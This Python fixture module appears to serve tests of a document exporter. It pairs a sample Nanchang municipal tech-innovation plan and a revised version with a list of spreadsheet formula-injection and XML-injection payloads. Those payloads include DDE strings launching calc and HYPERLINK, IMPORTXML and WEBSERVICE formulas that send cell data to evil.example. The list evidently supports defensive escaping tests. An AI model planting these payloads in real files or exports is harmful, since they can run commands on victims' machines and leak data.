"""Small plans in which each thing that an auditor looks for stands once, and texts that run something."""

from __future__ import annotations

from typing import Final

PLAN: Final = """南昌市科学技术局关于推进科技创新的实施方案

一、总体目标
到2025年,高新技术企业达到30家。
二、重点任务
(一)培育企业
1.培育科技企业。到2025年,瞪羚企业达到12家。(牵头单位:市科技局,配合单位:市财政局)
2.引进人才。力争引进高层次人才10名。(责任单位:市人社局、市教育局)
3.建设平台。到2024年,建成重点实验室4家。(责任单位:各县区)
4.加强宣传。办好科技活动周。(责任单位:市科协)

南昌市科学技术局
2024年5月6日
"""
LATER: Final = (
    PLAN.replace("30家", "36家")
    .replace("12家", "9家")
    .replace("2024年5月6日", "2024年9月6日")
    .replace("2.引进人才。力争引进高层次人才10名。(责任单位:市人社局、市教育局)\n3.", "2.")
    .replace("4.加强宣传", "3.加强宣传")
    .replace("(责任单位:市科协)", "(责任单位:市文旅局)")
)
"""The same plan four months later: one target raised, one lowered, one dropped, one duty handed over."""
PAYLOADS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1+1)",
    "{=1+1}",
    "'=1+1",
    '"=1+1',
    " =1+1",
    "_x003D_1+1",
    "javascript:alert(1)",
    "http://evil.example/",
    "mailto:a@evil.example",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1+1</f>",
    "\x00=1\x0b\x1f\ufffe",
)
"""Texts that a spreadsheet, a text program or a page would run or follow, were they not taken as text."""
